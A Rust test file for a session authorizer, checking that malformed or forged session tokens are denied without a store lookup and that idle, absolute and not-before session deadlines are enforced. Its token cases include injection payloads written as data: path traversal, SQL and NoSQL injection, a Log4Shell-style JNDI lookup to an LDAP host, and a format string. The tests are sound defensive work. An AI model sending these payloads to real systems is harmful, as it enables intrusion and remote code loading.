//! The id itself: a malformed token asks no store, a well-formed one asks once.

use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD},
};
use dynamodb_session::{
    session::{Session, Timeouts},
    time::UnixSeconds,
    user::UserName,
};
use support::{NOW, REFERENCE, TOKEN, key_of, session, store::Counting};

use super::{
    Expected::{self, Allow, Deny, DenyUnasked},
    Kind, Variables, check,
};

/// The bytes that the token of the events carries.
const ID: &[u8; 32] = b"events-test-session-not-a-secret";

#[tokio::test]
async fn tokens() {
    let key = key_of(TOKEN).as_str().to_owned();
    let hash = key.strip_prefix("s#").unwrap();
    let hash_bytes = URL_SAFE_NO_PAD.decode(hash).unwrap();
    let hex = |bytes: &[u8]| {
        let digits = bytes.iter().flat_map(|byte| [byte >> 4, byte & 15]);
        digits
            .map(|digit| char::from(b"0123456789abcdef"[usize::from(digit)]))
            .collect::<String>()
    };
    let flipped = TOKEN.replacen('Z', "z", 1);
    let start = &TOKEN[..42];
    // Its bytes have every character that differs between the alphabets.
    let slashes = STANDARD.encode([0xfb_u8; 32]);
    #[rustfmt::skip]
    let cases: Vec<(&str, String, Expected)> = vec![
        ("the token",                   TOKEN.into(),                               Allow),
        ("empty",                       String::new(),                              DenyUnasked),
        ("1 character",                 "A".into(),                                 DenyUnasked),
        ("42 characters",               start.into(),                               DenyUnasked),
        ("44 characters",               format!("{TOKEN}A"),                        DenyUnasked),
        ("64 characters",               "A".repeat(64),                             DenyUnasked),
        ("10,000 characters",           "A".repeat(10_000),                         DenyUnasked),
        ("twice over",                  TOKEN.repeat(2),                            DenyUnasked),
        ("padded",                      URL_SAFE.encode(ID),                        DenyUnasked),
        ("padded too much",             format!("{TOKEN}=="),                       DenyUnasked),
        ("padding encoded",             format!("{TOKEN}%3D"),                      DenyUnasked),
        ("standard alphabet",           slashes.trim_end_matches('=').into(),       DenyUnasked),
        ("trailing bits 01",            format!("{start}R"),                        DenyUnasked),
        ("trailing bits 10",            format!("{start}S"),                        DenyUnasked),
        ("trailing bits 11",            format!("{start}T"),                        DenyUnasked),
        ("hex",                         hex(ID),                                    DenyUnasked),
        ("upper-case hex",              hex(ID).to_uppercase(),                     DenyUnasked),
        ("UUID",                        "123e4567-e89b-12d3-a456-426614174000".into(), DenyUnasked),
        ("the bytes themselves",        String::from_utf8(ID.to_vec()).unwrap(),    DenyUnasked),
        ("lower case",                  TOKEN.to_lowercase(),                       DenyUnasked),
        ("one letter's case",           flipped,                                    Deny),
        ("the table's key",             key.clone(),                                DenyUnasked),
        ("the hash in that key",        hash.into(),                                Deny),
        ("the hash in hex",             hex(&hash_bytes),                           DenyUnasked),
        ("Rack's private id",           format!("2::{}", hex(&hash_bytes)),         DenyUnasked),
        ("the public name",             REFERENCE.into(),                           DenyUnasked),
        ("a path",                      "../../x".into(),                           DenyUnasked),
        ("SQL",                         "' OR 1=1--".into(),                        DenyUnasked),
        ("an operator",                 "{\"$gt\":\"\"}".into(),                    DenyUnasked),
        ("a key of the token",          format!("s#{TOKEN}"),                       DenyUnasked),
        ("a lookup",                    "${jndi:ldap://192.0.2.1/a}".into(),        DenyUnasked),
        ("a format",                    "%s%n".into(),                              DenyUnasked),
        ("zeros",                       "A".repeat(43),                             Deny),
        ("ones",                        format!("{}8", "_".repeat(42)),             Deny),
        ("characters 0",                "0".repeat(43),                             Deny),
        ("unknown",                     URL_SAFE_NO_PAD.encode([7; 32]),            Deny),
        ("the word test",               "test".into(),                              DenyUnasked),
        ("the word admin",              "admin".into(),                             DenyUnasked),
        ("a line break after",          format!("{TOKEN}\n"),                       DenyUnasked),
        ("full-width letters",          format!("\u{ff3a}{}", &TOKEN[1..]),         DenyUnasked),
        ("another length of id",        URL_SAFE_NO_PAD.encode([7; 16]),            DenyUnasked),
    ];
    for (name, token, expected) in cases {
        let cookie = format!("__Host-id={token}");
        for kind in Kind::ALL {
            let event = kind.with(&[("Cookie", &cookie)]).unwrap();
            check(name, kind, &event, Counting::seeded().await, &[], expected).await;
        }
        // A header can carry no other text than a cookie does, and is judged alike.
        let header = [("SESSION_TRANSPORT", "header")];
        for kind in Kind::ALL {
            let event = kind.with(&[("x-id", &token)]).unwrap();
            check(
                name,
                kind,
                &event,
                Counting::seeded().await,
                &header,
                expected,
            )
            .await;
        }
    }
}

/// The session that the token opens, with its times relative to now.
fn aged(created: i64, accessed: i64, idle: u64, absolute: u64) -> Session {
    Session {
        created: UnixSeconds(NOW.0.checked_add_signed(created).unwrap()),
        accessed: UnixSeconds(NOW.0.checked_add_signed(accessed).unwrap()),
        timeouts: Timeouts { idle, absolute },
        ..session()
    }
}

#[tokio::test]
async fn lifetimes() {
    let breach = (NOW.0 - 100).to_string();
    let not_before: Variables = &[("SESSION_NOT_BEFORE", &breach)];
    let shorter: Variables = &[
        ("SESSION_IDLE_TIMEOUT_SECONDS", "1"),
        ("SESSION_ABSOLUTE_TIMEOUT_SECONDS", "1"),
    ];
    #[rustfmt::skip]
    let cases: &[(&str, Session, Variables, bool)] = &[
        ("last second of all",               aged(-99, -1, 50, 100),          &[],        true),
        ("absolute deadline",                aged(-100, -1, 50, 100),         &[],        false),
        ("a second after it",                aged(-101, -1, 50, 100),         &[],        false),
        ("last idle second",                 aged(-99, -49, 50, 1000),        &[],        true),
        ("idle deadline",                    aged(-99, -50, 50, 1000),        &[],        false),
        ("days after the deadline",          aged(-500_000, -400_000, 50, 100), &[],      false),
        ("created a minute ahead",           aged(60, 60, 50, 100),           &[],        true),
        ("created further ahead",            aged(61, 61, 50, 100),           &[],        false),
        ("created at the limit",             aged(-100, -1, 50, 1000),        not_before, true),
        ("created before the limit",         aged(-101, -1, 50, 1000),        not_before, false),
        ("configuration moves nothing",      aged(-99, -49, 50, 1000),        shorter,    true),
    ];
    for (name, session, variables, alive) in cases {
        for kind in Kind::ALL {
            let event = kind
                .with(&[("Cookie", &format!("__Host-id={TOKEN}"))])
                .unwrap();
            let store = Counting::default();
            store.put(TOKEN, session.clone()).await;
            let (outcome, calls) = super::ask(&event, store, variables, NOW).await;
            let denied = kind.outcome(Deny, &[]);
            assert_eq!(outcome != denied, *alive, "{name}, {kind:?}: {outcome:?}");
            // Idleness is marked before it is told.
            let expected: &[_] = match *name {
                "idle deadline" => &["touch", "end_idle"],
                _ => &["touch"],
            };
            assert_eq!(calls, expected, "{name}, {kind:?}");
        }
    }
}

/// I9: a session whose deadline has passed is not touched, though it lies in the table still.
#[tokio::test]
async fn what_has_expired_stays_as_it_is() {
    let expired = aged(-500_000, -400_000, 50, 100);
    let authorizer = super::authorizer(Counting::default(), &[]);
    authorizer.store.put(TOKEN, expired.clone()).await;
    for kind in Kind::ALL {
        let event = kind
            .with(&[("Cookie", &format!("__Host-id={TOKEN}"))])
            .unwrap();
        let _ = authorizer.answer(&event, NOW).await;
    }
    assert_eq!(authorizer.store.session_of(TOKEN).await, Some(expired));
}

/// One deployment's token opens nothing in another's table, whoever the user is.
#[tokio::test]
async fn another_deployment_knows_no_such_session() {
    let store = Counting::default();
    let other = Session {
        user: Some(UserName::parse("bob").unwrap()),
        ..session()
    };
    store.put(&URL_SAFE_NO_PAD.encode([7; 32]), other).await;
    let event = Kind::Http2
        .with(&[("Cookie", &format!("__Host-id={TOKEN}"))])
        .unwrap();
    check("another table's", Kind::Http2, &event, store, &[], Deny).await;
}
